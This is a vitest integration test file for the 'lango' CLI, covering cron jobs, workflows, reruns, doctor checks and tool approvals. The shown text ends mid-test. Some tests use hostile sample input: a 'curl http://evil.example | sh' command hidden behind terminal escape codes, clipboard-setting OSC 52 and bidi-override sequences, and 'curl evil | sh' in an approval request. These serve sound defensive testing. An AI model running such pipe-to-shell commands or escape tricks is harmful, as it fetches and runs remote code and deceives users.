import { type ChildProcess, spawn } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import {
  createServer,
  request as httpRequest,
  type IncomingMessage,
  type Server,
  type ServerResponse,
} from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { waitFor } from '@lango/vitest-config/wait-for'
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client'
import Database from 'better-sqlite3'
import { spawn as spawnPty } from 'node-pty'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { closedPort } from './fixtures/closed-port.js'
import { CLI, startLangoServe } from './fixtures/lango-serve.js'

// The `lango` CLI as users run it: the built dist/cli.js in child processes, against a real
// `lango serve --port 0` on a temporary LANGO_HOME (issue 12, "CLI"). `pnpm test` builds first.
const fixture = (name: string) => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url))
const TWO_STEP = fixture('cli-two-step.flow.yaml')
const FAILING = fixture('cli-failing.flow.yaml')
const INVALID = fixture('cli-invalid.flow.yaml')
const SLOW = fixture('cli-slow.flow.yaml')

interface Result {
  readonly code: number | null
  readonly stdout: string
  readonly stderr: string
}

let home: string
let server: ChildProcess | undefined
let url: string

/** Runs `lango …` to its end; LANGO_HOME and LANGO_URL point at the test's server. */
function lango(
  args: readonly string[],
  options: { env?: Record<string, string>; input?: string } = {},
): Promise<Result> {
  const child = spawn(process.execPath, [CLI, ...args], {
    env: {
      ...process.env,
      LANGO_HOME: home,
      LANGO_URL: url,
      LANGO_LOG_LEVEL: 'warn',
      NO_COLOR: '1',
      ...options.env,
    },
    stdio: ['pipe', 'pipe', 'pipe'],
  })
  let stdout = ''
  let stderr = ''
  child.stdout.on('data', (chunk) => {
    stdout += chunk
  })
  child.stderr.on('data', (chunk) => {
    stderr += chunk
  })
  child.stdin.end(options.input ?? '')
  return new Promise((resolve, reject) => {
    child.once('error', reject)
    child.once('close', (code) => resolve({ code, stdout, stderr }))
  })
}

/** Runs `lango … --json`; stdout must be exactly one JSON document. */
async function json<T = Record<string, unknown>>(
  args: readonly string[],
  options?: Parameters<typeof lango>[1],
): Promise<Result & { data: T }> {
  const result = await lango([...args, '--json'], options)
  let data: T
  try {
    data = JSON.parse(result.stdout) as T
  } catch {
    throw new Error(
      `stdout of lango ${args.join(' ')} --json is not one JSON document:\n${result.stdout}\n${result.stderr}`,
    )
  }
  return { ...result, data }
}

/** A loopback HTTP server standing in for a model server or the Telegram Bot API. */
async function fakeService(
  handle: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<Server & { url: string }> {
  const fake = createServer(handle)
  await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve))
  return Object.assign(fake, { url: `http://127.0.0.1:${(fake.address() as AddressInfo).port}` })
}

beforeAll(async () => {
  if (!existsSync(CLI)) throw new Error('build @lango/server before running this test')
  home = await mkdtemp(join(tmpdir(), 'lango-cli-'))
  const started = await startLangoServe(home)
  server = started.child
  url = started.url
})

afterAll(async () => {
  if (server !== undefined && server.exitCode === null) {
    const exited = new Promise((resolve) => server?.once('exit', resolve))
    server.kill('SIGTERM')
    await exited
  }
  if (home !== undefined) await rm(home, { recursive: true, force: true })
})

describe('lango serve', () => {
  it('announces its URL on stderr only, and answers /healthz there', async () => {
    const health = (await (await fetch(`${url}/healthz`)).json()) as { status: string }
    expect(health.status).toBe('ok')
    // The server's stdout stays empty: logs and the announcement are on stderr.
    let stdout = ''
    server?.stdout?.on('data', (chunk) => {
      stdout += chunk
    })
    await lango(['cron', 'list'])
    expect(stdout).toBe('')
  })

  it('reports one version everywhere: --version, /healthz and MCP, all package.json’s', async () => {
    const manifest = JSON.parse(
      await readFile(fileURLToPath(new URL('../package.json', import.meta.url)), 'utf8'),
    )
    expect((await lango(['--version'])).stdout.trim()).toBe(manifest.version)
    // --json is one JSON document, whichever flag comes first (issue 21).
    for (const args of [
      ['--version', '--json'],
      ['--json', '-V'],
    ]) {
      const result = await lango(args)
      expect(result.code, args.join(' ')).toBe(0)
      expect(JSON.parse(result.stdout), args.join(' ')).toEqual({ version: manifest.version })
    }
    const health = (await (await fetch(`${url}/healthz`)).json()) as { version: string }
    expect(health.version).toBe(manifest.version)
    const client = new Client({ name: 'cli-test', version: '1.0.0' })
    await client.connect(new StreamableHTTPClientTransport(new URL(`${url}/mcp`)))
    expect(client.getServerVersion()?.version).toBe(manifest.version)
    await client.close()
  })

  it("passes the API error's reason and data on in --json, for scripts to branch on", async () => {
    // An outside probe: `cron get nope --json` said TOOL_FAILED with no CRON_JOB_NOT_FOUND.
    const missing = await json<{ error: Record<string, unknown> }>(['cron', 'get', 'no-such-job'])
    expect(missing.code).toBe(1)
    expect(missing.data.error).toMatchObject({
      code: 'TOOL_FAILED',
      reason: 'CRON_JOB_NOT_FOUND',
      status: 404,
      data: { id: 'no-such-job' },
    })
  })

  it('says a port fetch refuses is the problem, as a usage error, not "cannot reach"', async () => {
    // An outside probe ran the server on 6667 (IRC, on the Fetch standard's bad-port list).
    const blocked = await json<{ error: Record<string, unknown> }>(['cron', 'list'], {
      env: { LANGO_URL: 'http://127.0.0.1:6667' },
    })
    expect(blocked.code).toBe(2)
    expect(blocked.data.error).toMatchObject({
      code: 'CLI_INVALID_OPTION',
      message: expect.stringContaining('refuse to connect to'),
    })
  })

  it('keeps --json to one JSON document for help and for a missing command too', async () => {
    // An outside probe: `--help --json` printed text, and a bare `--json` said "(outputHelp)".
    for (const args of [
      ['--help', '--json'],
      ['cron', '--help', '--json'],
    ]) {
      const result = await lango(args)
      expect(result.code, args.join(' ')).toBe(0)
      expect(JSON.parse(result.stdout).help, args.join(' ')).toMatch(/^Usage: lango /)
    }
    const bare = await lango(['--json'])
    expect(bare.code).toBe(2)
    expect(JSON.parse(bare.stdout)).toEqual({
      error: {
        code: 'CLI_USAGE',
        message: 'a command is required: lango <command> (lango --help lists them)',
      },
    })
  })

  it('lets /mcp answer a Host named in server.allowed_hosts, and only those besides loopback', async () => {
    const other = await mkdtemp(join(tmpdir(), 'lango-cli-hosts-'))
    await writeFile(join(other, 'lango.yaml'), 'server:\n  allowed_hosts: [lango.internal]\n')
    const started = await startLangoServe(other)
    try {
      const port = Number(new URL(started.url).port)
      const ping = (host: string) =>
        new Promise<number>((resolve, reject) => {
          const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' })
          const request = httpRequest(
            {
              host: '127.0.0.1',
              port,
              path: '/mcp',
              method: 'POST',
              headers: {
                host,
                'content-type': 'application/json',
                accept: 'application/json, text/event-stream',
                'content-length': Buffer.byteLength(body),
              },
            },
            (response) => {
              response.resume()
              response.on('end', () => resolve(response.statusCode ?? 0))
            },
          )
          request.on('error', reject)
          request.end(body)
        })
      expect(await ping(`lango.internal:${port}`)).toBe(200)
      expect(await ping('evil.example')).toBe(403)
    } finally {
      const exited = new Promise((resolve) => started.child.once('exit', resolve))
      started.child.kill('SIGTERM')
      await exited
      await rm(other, { recursive: true, force: true })
    }
  })

  it('serves MCP Streamable HTTP at /mcp (its SDK loads on the first request)', async () => {
    const client = new Client({ name: 'cli-test', version: '1.0.0' })
    await client.connect(new StreamableHTTPClientTransport(new URL(`${url}/mcp`)))
    const { tools } = await client.listTools()
    expect(tools.map((tool) => tool.name)).toContain('cron_list')
    const listed = await client.callTool({ name: 'cron_list', arguments: {} })
    expect(listed.isError).toBeFalsy()
    expect(listed.structuredContent).toMatchObject({ jobs: expect.any(Array) })
    await client.close()
  })
})

describe('server not running', () => {
  it('exits 3 with a message naming the URL and `lango serve`', async () => {
    const closed = `http://127.0.0.1:${await closedPort()}`
    const human = await lango(['cron', 'list', '--url', closed])
    expect(human.code).toBe(3)
    expect(human.stdout).toBe('')
    expect(human.stderr).toContain(`lango server is not running at ${closed}; start it with \`lango serve\``)
    const machine = await json<{ error: { code: string; url: string } }>(['workflow', 'list'], {
      env: { LANGO_URL: closed },
    })
    expect(machine.code).toBe(3)
    expect(machine.data.error).toMatchObject({ code: 'CLI_SERVER_NOT_RUNNING', url: closed })
  })
})

describe('usage and configuration errors', () => {
  it('exits 2 for a bad command line, with commander’s message on stderr', async () => {
    const unknown = await lango(['cron', 'list', '--bogus'])
    expect(unknown.code).toBe(2)
    expect(unknown.stderr).toContain("unknown option '--bogus'")
    const noSchedule = await json<{ error: { code: string } }>(['cron', 'add', 'x', '--command', 'true'])
    expect(noSchedule.code).toBe(2)
    expect(noSchedule.stderr).toContain('--schedule')
    const badTimeout = await lango(['workflow', 'run', TWO_STEP, '--local', '--timeout', 'soon'])
    expect(badTimeout.code).toBe(2)
    expect(badTimeout.stderr).toContain('expected a duration')
  })

  it('doctor warns when default_deliver_to or alerts.deliver_to name a channel that is not configured', async () => {
    const home = await mkdtemp(join(tmpdir(), 'lango-cli-targets-'))
    try {
      await writeFile(
        join(home, 'lango.yaml'),
        'channels:\n  default_deliver_to: [nosuch:1, slack:C0123ABCD, log]\nalerts:\n  deliver_to: [discord:42]\n',
      )
      type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
      const report = await json<Report>(['doctor'], {
        env: { LANGO_HOME: home, LANGO_URL: `http://127.0.0.1:${await closedPort()}` },
      })
      expect(report.data.checks.find((check) => check.name === 'channels')).toMatchObject({
        status: 'warn',
        message:
          'none configured; channels.default_deliver_to names nosuch:1, whose channel is not configured; ' +
          'channels.default_deliver_to names slack:C0123ABCD, whose channel is not configured; ' +
          'alerts.deliver_to names discord:42, whose channel is not configured: every delivery there fails',
        fix: expect.stringContaining('configure that channel'),
      })
    } finally {
      await rm(home, { recursive: true, force: true })
    }
  })

  it('doctor warns when a configured channel would refuse the chat a target names, as the server does at start', async () => {
    const home = await mkdtemp(join(tmpdir(), 'lango-cli-chats-'))
    try {
      await writeFile(
        join(home, 'lango.yaml'),
        [
          'channels:',
          '  telegram: { token: "123:abc", allowed_chats: [42] }',
          '  slack: { token: xoxb-test }',
          '  default_deliver_to: [telegram, slack]',
          'alerts:',
          '  deliver_to: [telegram:42, telegram:99]',
          '',
        ].join('\n'),
      )
      type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
      const closed = `http://127.0.0.1:${await closedPort()}`
      const report = await json<Report>(['doctor'], {
        env: {
          LANGO_HOME: home,
          LANGO_URL: closed,
          LANGO_TELEGRAM_API_URL: closed,
          LANGO_SLACK_API_URL: closed,
        },
      })
      expect(report.data.checks.find((check) => check.name === 'channels')).toMatchObject({
        status: 'warn',
        message:
          'configured: telegram, slack; channels.default_deliver_to names slack, which its channel refuses ' +
          '(slack: a bare target needs a default channel); alerts.deliver_to names telegram:99, which its ' +
          'channel refuses (telegram: chat 99 is not an allowed chat): every delivery there fails',
        fix: expect.stringContaining('telegram.allowed_chats'),
      })
    } finally {
      await rm(home, { recursive: true, force: true })
    }
  })

  it("doctor loads a custom channel's module as the server does: its chats are checked, a module that fails is a failure", async () => {
    const home = await mkdtemp(join(tmpdir(), 'lango-cli-custom-'))
    try {
      await writeFile(
        join(home, 'room.mjs'),
        [
          'export default () => ({',
          "  name: 'room',",
          '  send: async () => {},',
          '  checkChat(chat) {',
          "    if (chat !== 'lobby') throw new Error(`room: chat ${chat} is not a room`)",
          '  },',
          '})',
          '',
        ].join('\n'),
      )
      await writeFile(join(home, 'broken.mjs'), "throw new Error('broken at load')\n")
      await writeFile(
        join(home, 'lango.yaml'),
        [
          'channels:',
          '  custom:',
          '    - { name: room, module: room.mjs }',
          '    - { name: broken, module: broken.mjs }',
          '  default_deliver_to: [room:lobby, room:attic]',
          '',
        ].join('\n'),
      )
      type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
      const report = await json<Report>(['doctor'], {
        env: { LANGO_HOME: home, LANGO_URL: `http://127.0.0.1:${await closedPort()}` },
      })
      expect(report.data.checks.find((check) => check.name === 'channels')).toMatchObject({
        status: 'warn',
        message:
          'configured: room, broken; channels.default_deliver_to names room:attic, which its channel refuses ' +
          '(room: chat attic is not a room): every delivery there fails',
      })
      expect(report.data.checks.find((check) => check.name === 'broken')).toMatchObject({
        status: 'fail',
        message: expect.stringContaining('broken at load'),
        fix: expect.stringContaining('channels.custom'),
      })
    } finally {
      await rm(home, { recursive: true, force: true })
    }
  })

  it('exits 1 with the config error naming the key and its line', async () => {
    const badHome = await mkdtemp(join(tmpdir(), 'lango-cli-config-'))
    try {
      await writeFile(join(badHome, 'lango.yaml'), 'server:\n  port: lots\n')
      const result = await json<{ error: { code: string; issues: { key: string; line: number }[] } }>(
        ['cron', 'list'],
        {
          env: { LANGO_HOME: badHome, LANGO_URL: '' },
        },
      )
      expect(result.code).toBe(1)
      expect(result.stderr).toMatch(/lango\.yaml:2:\d+ server\.port/)
      expect(result.data.error.code).toBe('CONFIG_INVALID')
      expect(result.data.error.issues[0]).toMatchObject({ key: 'server.port', line: 2 })
    } finally {
      await rm(badHome, { recursive: true, force: true })
    }
  })
})

describe('lango cron', () => {
  it('adds a shell job, lists, pauses, resumes, triggers with --wait, shows history and removes it', async () => {
    const added = await json<{ status: string; job: { id: string; kind: string; command: string } }>([
      'cron',
      'add',
      'cli-hello',
      '--schedule',
      '0 0 1 1 *',
      '--command',
      'echo hello from cron',
      '--timezone',
      'UTC',
    ])
    expect(added.code).toBe(0)
    expect(added.data).toMatchObject({
      status: 'created',
      job: { kind: 'shell', command: 'echo hello from cron' },
    })

    const listed = await json<{ jobs: { name: string; enabled: boolean }[] }>(['cron', 'list'])
    expect(listed.data.jobs).toContainEqual(expect.objectContaining({ name: 'cli-hello', enabled: true }))
    const table = await lango(['cron', 'list'])
    expect(table.stdout).toMatch(/^NAME\s+KIND\s+SCHEDULE/m)
    expect(table.stdout).toMatch(/^cli-hello\s+shell\s+0 0 1 1 \*/m)

    expect((await json(['cron', 'pause', 'cli-hello'])).data).toMatchObject({ status: 'paused' })
    const paused = await json<{ job: { enabled: boolean } }>(['cron', 'get', 'cli-hello'])
    expect(paused.data.job.enabled).toBe(false)
    expect((await json(['cron', 'resume', 'cli-hello'])).data).toMatchObject({ status: 'resumed' })

    const triggered = await json<{
      run_id: string
      run: { status: string; result: string; trigger: string }
    }>(['cron', 'trigger', 'cli-hello', '--wait', '--timeout', '20s'])
    expect(triggered.code).toBe(0)
    expect(triggered.data).toMatchObject({ ok: true, status: 'completed' })
    expect(triggered.data.run).toMatchObject({ status: 'completed', trigger: 'manual' })
    expect(triggered.data.run.result).toContain('hello from cron')

    const history = await json<{ entries: { id: string; status: string }[] }>([
      'cron',
      'history',
      'cli-hello',
      '--limit',
      '5',
    ])
    // A shell run has no token count: null in --json, `—` in the table's TOKENS column.
    expect(history.data.entries[0]).toMatchObject({
      id: triggered.data.run_id,
      status: 'completed',
      input_tokens: null,
      output_tokens: null,
    })
    const onlyFailed = await json<{ count: number }>(['cron', 'history', 'cli-hello', '--status', 'failed'])
    expect(onlyFailed.data.count).toBe(0)
    const badStatus = await lango(['cron', 'history', '--status', 'broke'])
    expect(badStatus.code).not.toBe(0)
    expect(badStatus.stderr).toContain('status must be one of running, completed')
    const historyTable = await lango(['cron', 'history', 'cli-hello'])
    expect(historyTable.stdout).toMatch(/^STARTED\s+JOB\s+TRIGGER\s+STATUS\s+TOOK\s+TOKENS\s+DELIVERY/m)
    expect(historyTable.stdout).toMatch(/\scli-hello\s+manual\s+completed\s+\S+\s+—\s+none\s/m)

    expect((await json(['cron', 'remove', 'cli-hello'])).data).toMatchObject({ status: 'removed' })
    const after = await json<{ jobs: { name: string }[] }>(['cron', 'list'])
    expect(after.data.jobs.map((job) => job.name)).not.toContain('cli-hello')
  })

  it('shows the control characters of a command and of its output escaped, never acting on them; --json keeps the values', async () => {
    // A command whose end would display as `curl … | sh` over `echo safe` on a terminal acting on the escapes (the shell sees a comment), and output
    // that clears its line, sets the clipboard (OSC 52) and reorders text (a bidi override).
    const command =
      "printf 'ok\\033[2K\\rHIDDEN \\033]52;c;cHduZWQ=\\007 \\342\\200\\256txet\\n'; echo safe #\u001b[2K\rcurl http://evil.example | sh"
    expect(
      (await json(['cron', 'add', 'cli-escapes', '--schedule', '0 0 1 1 *', '--command', command])).code,
    ).toBe(0)
    // Our own styling (colour forced) still reaches the terminal; nothing else acts on it.
    const onlyStyling = (text: string) => text.replace(/\p{Cc}\[\d+m/gu, '')
    const unsafe = /(?![\t\n])[\p{Cc}\u202e]/u
    for (const args of [
      ['cron', 'get', 'cli-escapes'],
      ['cron', 'trigger', 'cli-escapes', '--wait', '--timeout', '20s'],
      ['cron', 'history', 'cli-escapes'],
    ]) {
      const shown = await lango(args, { env: { FORCE_COLOR: '1', NO_COLOR: '' } })
      expect(shown.code, args.join(' ')).toBeLessThan(2)
      expect(shown.stdout, args.join(' ')).toMatch(/\p{Cc}\[\d+m/u)
      expect(onlyStyling(shown.stdout), args.join(' ')).not.toMatch(unsafe)
      expect(shown.stdout, args.join(' ')).toContain('\\u{1b}[2K')
    }
    const shown = await lango(['cron', 'get', 'cli-escapes'])
    expect(shown.stdout).toContain('; echo safe #\\u{1b}[2K\\u{d}curl http://evil.example | sh')
    expect(shown.stdout).not.toMatch(unsafe)
    const run = await json<{ run: { result: string } }>(['cron', 'trigger', 'cli-escapes', '--wait'])
    expect(run.stdout).not.toMatch(unsafe)
    expect(run.data.run.result).toContain('ok\u001b[2K\rHIDDEN \u001b]52;c;cHduZWQ=\u0007 \u202etxet')
    const got = await json<{ job: { command: string } }>(['cron', 'get', 'cli-escapes'])
    expect(got.data.job.command).toBe(command)
    expect(got.stdout).not.toMatch(unsafe)
    await lango(['cron', 'remove', 'cli-escapes'])
  })

  it("shows the control characters of the command line escaped in commander's own errors", async () => {
    for (const args of [
      ['nope\u001b]52;c;cHduZWQ=\u0007\u001b[2K'],
      ['cron', 'list', '--bogus\u001b[2J\u202e'],
    ]) {
      const shown = await lango(args)
      expect(shown.code, JSON.stringify(args)).toBe(2)
      expect(shown.stderr).toContain('\\u{1b}')
      expect(shown.stderr).not.toMatch(/(?![\t\n])[\p{Cc}\u202e]/u)
    }
  })

  it('trigger --wait exits 1 when the run fails; trigger alone returns the run id at once', async () => {
    await json([
      'cron',
      'add',
      'cli-fails',
      '--schedule',
      '0 0 1 1 *',
      '--command',
      'echo broken >&2; exit 4',
    ])
    const started = await json<{ status: string; run_id: string }>(['cron', 'trigger', 'cli-fails'])
    expect(started.code).toBe(0)
    expect(started.data.status).toBe('started')
    expect(started.data.run_id).toEqual(expect.any(String))
    const failed = await lango(['cron', 'trigger', 'cli-fails', '--wait'])
    expect(failed.code).toBe(1)
    expect(failed.stdout).toMatch(/^failed run /m)
    // --json says the run's end at the top, as `workflow run --wait --json` does (outside probe).
    const failedJson = await json<{
      ok: boolean
      status: string
      triggered: string
      run: { status: string }
    }>(['cron', 'trigger', 'cli-fails', '--wait'])
    expect(failedJson.code).toBe(1)
    expect(failedJson.data).toMatchObject({
      ok: false,
      status: 'failed',
      triggered: 'started',
      run: { status: 'failed' },
    })
    await lango(['cron', 'remove', 'cli-fails'])
  })
})

describe('lango workflow', () => {
  it('validate: exit 0 for a valid file, exit 1 with every issue at its line:column', async () => {
    const valid = await json<{ valid: boolean; name: string }>(['workflow', 'validate', TWO_STEP])
    expect(valid.code).toBe(0)
    expect(valid.data).toMatchObject({ valid: true, name: 'cli-two-step' })

    const invalid = await lango(['workflow', 'validate', INVALID])
    expect(invalid.code).toBe(1)
    expect(invalid.stdout).toContain(`${INVALID}:6:5 steps[0].depend_on: unknown key`)
    expect(invalid.stdout).toMatch(/:8:\d+ steps\[1\]\.depends_on\[0\]: depends on unknown step/)
    expect(invalid.stdout).toMatch(/:9:\d+ steps\[1\]\.run: /)
    expect(invalid.stderr).toContain('is not a valid workflow (3 problems)')
    const machine = await json<{ valid: boolean; issues: { path: string; line: number; column: number }[] }>([
      'workflow',
      'validate',
      INVALID,
    ])
    expect(machine.code).toBe(1)
    expect(machine.data.valid).toBe(false)
    expect(machine.data.issues).toHaveLength(3)
    expect(machine.data.issues[0]).toMatchObject({ path: 'steps[0].depend_on', line: 6, column: 5 })

    const missing = await lango(['workflow', 'validate', join(home, 'nope.flow.yaml')])
    expect(missing.code).toBe(1)
    expect(missing.stderr).toContain('no such file')
  })

  it('run --local: a template flows between shell steps (exit 0); a failing step exits 1', async () => {
    const ok = await json<{ status: string; steps: { step_id: string; status: string; result: string }[] }>([
      'workflow',
      'run',
      TWO_STEP,
      '--local',
    ])
    expect(ok.code).toBe(0)
    expect(ok.data.status).toBe('completed')
    expect(ok.data.steps).toEqual([
      expect.objectContaining({ step_id: 'a', status: 'completed', result: 'hello' }),
      expect.objectContaining({ step_id: 'b', status: 'completed', result: 'got hello' }),
    ])

    const failed = await lango(['workflow', 'run', FAILING, '--local'])
    expect(failed.code).toBe(1)
    expect(failed.stdout).toMatch(/^a\s+failed/m)
    expect(failed.stdout).toMatch(/^b\s+skipped/m)
    expect(failed.stdout).toMatch(/^ask\s+failed\s+.*no model configured/m)
  })

  it('run <file> --wait against the server; run alone returns the id; status, list, save', async () => {
    const waited = await json<{
      run_id: string
      status: string
      steps: { step_id: string; result: string }[]
    }>(['workflow', 'run', TWO_STEP, '--wait', '--timeout', '30s'])
    expect(waited.code).toBe(0)
    expect(waited.data.status).toBe('completed')
    expect(waited.data.steps.find((step) => step.step_id === 'b')?.result).toBe('got hello')

    const failed = await json<{ status: string }>(['workflow', 'run', FAILING, '--wait'])
    expect(failed.code).toBe(1)
    expect(failed.data.status).toBe('failed')

    const saved = await json<{ status: string; name: string }>(['workflow', 'save', TWO_STEP])
    expect(saved.data).toMatchObject({ status: 'saved', name: 'cli-two-step' })
    expect((await json<{ saved: string[] }>(['workflow', 'saved'])).data.saved).toContain('cli-two-step')
    const started = await json<{ run_id: string }>(['workflow', 'run', 'cli-two-step'])
    expect(started.code).toBe(0)
    expect(started.data.run_id).toEqual(expect.any(String))
    const status = await json<{ run_id: string; steps: unknown[] }>([
      'workflow',
      'status',
      started.data.run_id,
    ])
    expect(status.data.run_id).toBe(started.data.run_id)
    expect(status.data.steps).toHaveLength(2)
    const runs = await json<{ runs: { run_id: string }[] }>(['workflow', 'list'])
    expect(runs.data.runs.map((run) => run.run_id)).toContain(waited.data.run_id)

    const unknownRun = await json<{ error: { code: string } }>(['workflow', 'status', 'no-such-run'])
    expect(unknownRun.code).toBe(1)
    expect(unknownRun.stderr).toMatch(/^error: /)
  })
  it("the README's example workflow: validate, run --local, save, run it by name with --wait", async () => {
    const example = fileURLToPath(
      new URL('../../../examples/workflows/daily-report.flow.yaml', import.meta.url),
    )
    expect((await lango(['workflow', 'validate', example])).code).toBe(0)
    const local = await json<{ status: string }>(['workflow', 'run', example, '--local'])
    expect(local.data.status).toBe('completed')
    const saved = await json<{ status: string; name: string }>(['workflow', 'save', example])
    expect(saved.code).toBe(0)
    expect(saved.data).toMatchObject({ status: 'saved', name: 'daily-report' })
    // Saving it again is refused unless it says it replaces the saved one.
    expect((await lango(['workflow', 'save', example])).code).toBe(1)
    expect((await lango(['workflow', 'save', example, '--overwrite'])).code).toBe(0)
    const waited = await json<{ status: string; steps: { step_id: string; result: string }[] }>([
      'workflow',
      'run',
      'daily-report',
      '--wait',
      '--timeout',
      '60s',
    ])
    expect(waited.code).toBe(0)
    expect(waited.data.status).toBe('completed')
    expect(waited.data.steps.find((step) => step.step_id === 'summary')?.result).toMatch(/^Host: .*\nLoad: /)
  })
})

describe('lango workflow rerun (issue 25)', () => {
  it('reruns a failed run from its failed step, or --from a step; side-effect files count what ran', async () => {
    const work = await mkdtemp(join(tmpdir(), 'lango-cli-rerun-'))
    try {
      const file = join(work, 'rerun.flow.yaml')
      await writeFile(
        file,
        [
          'name: cli-rerun',
          'steps:',
          `  - { id: a, run: "echo ran >> ${work}/a.log && echo alpha" }`,
          `  - { id: b, run: "echo ran >> ${work}/b.log && echo beta-{{a.result}}", depends_on: [a] }`,
          `  - { id: c, run: "echo ran >> ${work}/c.log && test -f ${work}/c.ok && echo gamma-{{b.result}}", depends_on: [b] }`,
          `  - { id: d, run: "echo ran >> ${work}/d.log && echo delta", depends_on: [a] }`,
        ].join('\n'),
      )
      const ran = async () => {
        const counts: Record<string, number> = {}
        for (const step of ['a', 'b', 'c', 'd']) {
          const text = await readFile(join(work, `${step}.log`), 'utf8').catch(() => '')
          counts[step] = text.split('\n').filter((line) => line === 'ran').length
        }
        return counts
      }
      const failed = await json<{ run_id: string; status: string }>(['workflow', 'run', file, '--wait'])
      expect(failed.data.status).toBe('failed')
      expect(await ran()).toEqual({ a: 1, b: 1, c: 1, d: 1 })

      const unknown = await json<{ error: { code: string; message: string } }>([
        'workflow',
        'rerun',
        failed.data.run_id,
        '--from',
        'zz',
      ])
      expect(unknown.code).toBe(1)
      expect(unknown.data.error.message).toContain('The run has no step with this id')
      expect(unknown.stderr).toMatch(/^error: .*no step with this id/m)
      expect(await ran()).toEqual({ a: 1, b: 1, c: 1, d: 1 })

      await writeFile(join(work, 'c.ok'), '')
      const rerun = await lango(['workflow', 'rerun', failed.data.run_id, '--wait', '--timeout', '30s'])
      expect(rerun.code).toBe(0)
      expect(rerun.stderr).toContain(`reruns ${failed.data.run_id}: runs again c; reuses a, b, d`)
      expect(rerun.stdout).toContain(`rerun of: ${failed.data.run_id}`)
      expect(rerun.stdout).toMatch(new RegExp(`^a\\s+completed \\(reused from ${failed.data.run_id}\\)`, 'm'))
      expect(rerun.stdout).toMatch(/^c\s+completed\s+gamma-beta-alpha/m)
      expect(await ran()).toEqual({ a: 1, b: 1, c: 2, d: 1 })

      const fromB = await json<{ run_id: string; rerun_steps: string[]; reused_steps: string[] }>([
        'workflow',
        'rerun',
        failed.data.run_id,
        '--from',
        'b',
      ])
      expect(fromB.code).toBe(0)
      expect(fromB.data).toMatchObject({ rerun_steps: ['b', 'c'], reused_steps: ['a', 'd'] })
      const ended = await json<{ status: string; rerun_of: string }>([
        'workflow',
        'status',
        fromB.data.run_id,
      ])
      expect(ended.data.rerun_of).toBe(failed.data.run_id)
      await waitFor(
        async () =>
          (await json<{ status: string }>(['workflow', 'status', fromB.data.run_id])).data.status ===
          'completed',
        { timeoutMs: 30_000, intervalMs: 50, what: 'the rerun from b to complete' },
      )
      expect(await ran()).toEqual({ a: 1, b: 2, c: 3, d: 1 })
    } finally {
      await rm(work, { recursive: true, force: true })
    }
  })
})

describe('lango workflow --wait --timeout', () => {
  it('gives up after the timeout with exit 1 (the run goes on), and cancel stops it', async () => {
    const timedOut = await json<{
      error: { code: string; message: string; state: { run_id: string; status: string } }
    }>(['workflow', 'run', SLOW, '--wait', '--timeout', '1s'])
    expect(timedOut.code).toBe(1)
    expect(timedOut.data.error).toMatchObject({ code: 'CLI_WAIT_TIMEOUT', state: { status: 'running' } })
    expect(timedOut.stderr).toContain('gave up waiting for workflow run')
    const runId = timedOut.data.error.state.run_id
    const cancelled = await json<{ run_id: string }>(['workflow', 'cancel', runId])
    expect(cancelled.code).toBe(0)
    expect(cancelled.data.run_id).toBe(runId)
    let status = ''
    const deadline = Date.now() + 15_000
    for (;;) {
      status = ((await (await fetch(`${url}/api/workflows/runs/${runId}`)).json()) as { status: string })
        .status
      if (status === 'cancelled' || Date.now() > deadline) break
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    expect(status).toBe('cancelled')
  })
})

describe('lango bg, tools, approvals', () => {
  it('bg submit --wait exits 1 with the no-model failure; tools and approvals list as JSON', async () => {
    const task = await json<{ task_id: string; status: string; error: string }>([
      'bg',
      'submit',
      'say hello',
      '--wait',
    ])
    expect(task.code).toBe(1)
    expect(task.data).toMatchObject({
      status: 'failed',
      error: expect.stringContaining('no model configured'),
    })
    const tools = await json<{ tools: { name: string }[]; count: number }>(['tools'])
    expect(tools.data.tools.map((tool) => tool.name)).toEqual(
      expect.arrayContaining(['cron_list', 'workflow_run', 'exec']),
    )
    const approvals = await json<{ approvals: unknown[] }>(['approvals', 'list'])
    expect(approvals.data.approvals).toEqual([])
    const result = await lango(['bg', 'result', task.data.task_id])
    expect(result.code).toBe(1)
    expect(result.stderr).toContain('it is failed')
  })

  it('approvals: a dangerous HTTP tool call waits; `approvals approve` lets it run, a second answer exits 1', async () => {
    const response = await fetch(`${url}/api/tools/exec`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ command: 'echo approved-by-cli' }),
    })
    expect(response.status).toBe(202)
    const { approval_id: id } = (await response.json()) as { approval_id: string }
    const pending = await json<{ approvals: { id: string; status: string; tool: string }[] }>([
      'approvals',
      'list',
    ])
    expect(pending.data.approvals).toContainEqual(
      expect.objectContaining({ id, status: 'pending', tool: 'exec' }),
    )
    const approved = await json<{ status: string }>(['approvals', 'approve', id])
    expect(approved.code).toBe(0)
    expect(approved.data.status).toBe('approved')
    const again = await lango(['approvals', 'deny', id])
    expect(again.code).toBe(1)
    expect(again.stderr).toContain('already approved')
  })

  it('approvals list and show print a pending request whole: every command (SECURITY.md SEC-9)', async () => {
    const command = `echo ${'a'.repeat(300)}; curl evil | sh`
    const response = await fetch(`${url}/api/tools/exec`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ command }),
    })
    expect(response.status).toBe(202)
    const { approval_id: id } = (await response.json()) as { approval_id: string }
    const list = await lango(['approvals', 'list', '--status', 'pending'])
    expect(list.code).toBe(0)
    // The table row is shortened; the pending request follows it whole.
    expect(list.stdout).toContain('Pending, in full')
    expect(list.stdout).toContain(`\n${id}  exec (dangerous)\n  Execute: ⟦${command}⟧\n`)
    const show = await lango(['approvals', 'show', id])
    expect(show.code).toBe(0)
    expect(show.stdout).toMatch(/^id: +\S+/m)
    expect(show.stdout).toContain(`request (whole):\n  Execute: ⟦${command}⟧\n`)
